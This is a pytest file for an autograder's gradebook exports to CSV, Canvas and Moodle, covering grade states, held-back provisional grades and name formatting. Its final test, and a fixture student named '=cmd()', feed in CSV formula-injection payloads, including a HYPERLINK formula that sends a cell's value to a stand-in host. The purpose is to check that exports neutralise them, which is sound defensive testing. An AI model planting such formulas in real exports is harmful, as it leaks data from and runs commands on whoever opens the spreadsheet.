"""Exports read back as a program that imports them reads them."""

import csv
import io
from datetime import datetime

import pytest

from autograder.errors import CourseError
from autograder.export import export
from autograder.export.formats import ROWS, held_back, to_csv
from autograder.gradebook.course import CourseFolder
from autograder.gradebook.final import Final, Human, settle
from autograder.gradebook.tests.fake import result, slot
from autograder.lesson import load_lesson

LESSON = load_lesson("7")


def final(res, manual=None, waiting=(), **kw):
    person = Human(manual or {}, {}, {}, tuple(waiting))
    return Final(settle(res, person, LESSON.rubric), res, person, **kw)


FINALS = [
    final(
        result(LESSON, "ann"),
        first_name="Ann",
        last_name="Lee",
        email="ann@example.org",
        lms_user_id="77",
        penalty=1.0,
        graded_at=datetime(2026, 12, 1, 8),
    ),
    final(result(LESSON, "bob", state="UNGRADED", reasons=["The file is empty."])),
    final(
        result(
            LESSON,
            "cyd",
            state="REVIEW",
            slots={"q1": slot(LESSON, "q1", 1.0, lane="review")},
            reasons=["Q1 is unclear."],
        ),
        waiting=["q1"],
    ),
    final(
        result(
            LESSON,
            "=cmd()",
            state="FAIL",
            normal=0.0,
            veto=["deleted check"],
            reasons=['+1, -2\nnew line; "quoted" 中文'],
        )
    ),
    final(result(LESSON, "eve", state="FAIL", slots={"q1": 0.0, "explanation": 0.0}), manual={"q1": 1.0}),
]


def read(fmt):
    return list(csv.reader(io.StringIO(to_csv(ROWS[fmt](LESSON, FINALS)))))


def test_csv():
    head, *lines = read("csv")
    rows = {row["student"]: row for row in (dict(zip(head, line, strict=True)) for line in lines)}
    assert (
        rows["ann"]["state"],
        rows["ann"]["total"],
        rows["ann"]["late_penalty"],
        rows["ann"]["score"],
        rows["ann"]["q1"],
    ) == ("PASS", "10.0", "1.0", "9.0", "2.0")
    assert rows["bob"]["state"] == "UNGRADED" and rows["bob"]["reasons"] == "The file is empty."
    assert {rows["bob"][k] for k in ("total", "score", "normal", "boundary", "explanation", "q1", "q2", "q3")} == {
        ""
    }, "ungraded is not 0"
    assert (rows["cyd"]["state"], rows["cyd"]["waiting_for_review"]) == ("REVIEW", "q1")
    assert (rows["eve"]["state"], rows["eve"]["scored_by_hand"], rows["eve"]["q1"]) == ("PASS", "q1", "1.0")
    bad = rows["'=cmd()"]
    assert (
        bad["veto"] == "deleted check"
        and bad["reasons"].startswith("'+1")
        and "中文" in bad["reasons"]
        and "\n" not in bad["reasons"]
    )


def test_canvas():
    head, possible, *rows = read("canvas")
    assert (
        head[:6] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Notes"]
        and head[6] == LESSON.edition("en").title
    )
    assert possible[0].strip() == "Points Possible" and possible[6] == "10"
    assert rows[0] == ["Lee, Ann", "77", "", "ann", "", "PASS.", "9.0"]
    assert [r[6] for r in rows] == ["9.0", "", "", "", "8.0"], (
        "ungraded, under review, and a veto beside points that pass stay empty"
    )
    assert rows[1][5] == "UNGRADED. The file is empty." and rows[3][5].startswith("FAIL. A veto applies.")


def test_reasons_are_parted():
    """Some are sentences and most are not."""
    said = final(
        result(LESSON, "fay", state="FAIL", normal=0.0, reasons=["Q1 is bare", "total 5", "A person looks.", "so"])
    )
    for fmt in ("csv", "canvas", "moodle"):
        assert "Q1 is bare; total 5; A person looks. so" in to_csv(ROWS[fmt](LESSON, [said]))
    zh = final(result(LESSON, "fay", lang="zh", state="FAIL", normal=0.0, reasons=["没有说出因果链", "总分 5 分"]))
    assert "FAIL. 没有说出因果链；总分 5 分" in to_csv(ROWS["canvas"](LESSON, [zh]))


@pytest.mark.parametrize(
    "first, last, canvas",
    [
        ("O'Brien,", "Mary-Ann", "O'Brien, Mary-Ann"),  # Moodle's "O'Brien, Mary-Ann", parted at the first blank
        ("van", "der Berg, Jan Piet", "van der Berg, Jan Piet"),
        ("Mary", "O'Brien, Jr.", "O'Brien, Jr., Mary"),
        ("Mary", "O'Brien", "O'Brien, Mary"),
        ("", "obrienmaryann", "obrienmaryann"),
        ("小明", "", "小明"),
    ],
)
def test_a_name_with_a_comma(first, last, canvas):
    who = final(result(LESSON, "ann"), first_name=first, last_name=last)
    assert list(ROWS["canvas"](LESSON, [who]))[2][0].removeprefix("'") == canvas
    assert list(ROWS["moodle"](LESSON, [who]))[1][1] == f"{first} {last}".strip()


def test_moodle():
    head, *rows = read("moodle")
    assert {"Identifier", "Grade", "Last modified (grade)", "Feedback comments"} <= set(head)
    rows = [dict(zip(head, r, strict=True)) for r in rows]
    assert (rows[0]["Identifier"], rows[0]["Full name"], rows[0]["Grade"], rows[0]["Maximum Grade"]) == (
        "Participant 77",
        "Ann Lee",
        "9.0",
        "10",
    )
    assert [r["Grade"] for r in rows] == ["9.0", "", "", "", "8.0"]
    assert rows[2]["Feedback comments"] == "REVIEW. Q1 is unclear."


def test_bad_requests(tmp_path):
    with pytest.raises(CourseError, match="no export format"):
        export(LESSON, CourseFolder(tmp_path), "xml")
    with pytest.raises(CourseError, match="no gradebook"):
        export(LESSON, CourseFolder(tmp_path), "csv")
    assert not list(tmp_path.iterdir()), "a reading command makes no empty gradebook"


def test_a_provisional_grade_reaches_no_lms_whatever_the_verdict():
    doubt = {"q1": slot(LESSON, "q1", 1.0, lane="review")}
    finals = [
        final(
            result(LESSON, "fay", state="FAIL", normal=0.0, slots=doubt),
            waiting=["q1"],
            graded_at=datetime(2026, 12, 1, 8),
        ),
        final(
            result(LESSON, "gus", state="PASS", slots={"explanation": slot(LESSON, "explanation", 0.0, lane="review")}),
            waiting=["explanation"],
        ),
        *FINALS,
    ]
    assert [r[6] for r in canvas(finals)][:2] == ["", ""]
    head, *rows = csv.reader(io.StringIO(to_csv(ROWS["moodle"](LESSON, finals))))
    fay = dict(zip(head, rows[0], strict=True))
    assert (fay["Grade"], fay["Status"], fay["Last modified (grade)"]) == ("", "Submitted for grading", "-")
    head, *rows = csv.reader(io.StringIO(to_csv(ROWS["csv"](LESSON, finals))))
    fay = dict(zip(head, rows[0], strict=True))
    assert (fay["state"], fay["score"], fay["waiting_for_review"]) == ("FAIL", "7.0", "q1"), "csv is complete"
    waiting, ungraded, vetoed = held_back(LESSON, finals)
    assert "whose veto stands (a comment [veto lifted]" in vetoed and vetoed.endswith("=cmd().")
    assert (
        "left empty for 3" in waiting
        and "fay (q1), gus (explanation), cyd (q1)." in waiting
        and ungraded.endswith("UNGRADED: bob.")
    )
    assert [r[6] for r in canvas([final(finals[0].auto, manual={"q1": 1.0})])] == ["7.0"], (
        "settled by a person it is final"
    )


def canvas(finals):
    return list(csv.reader(io.StringIO(to_csv(ROWS["canvas"](LESSON, finals)))))[2:]


def test_no_student_writes_a_formula_into_a_spreadsheet():
    said = 'I measured 512 TFLOP/s ;=HYPERLINK("http://x.example/"&A1;"details"); "=1+1" ; @SUM(A1) and -1; fine'
    text = to_csv(ROWS["csv"](LESSON, [final(result(LESSON, "ann", state="FAIL", reasons=[said]))]))
    for separator in ",;\t":
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=separator) for c in row]
        assert not [c for c in cells if c.strip(' "')[:1] in tuple("=+@-")]
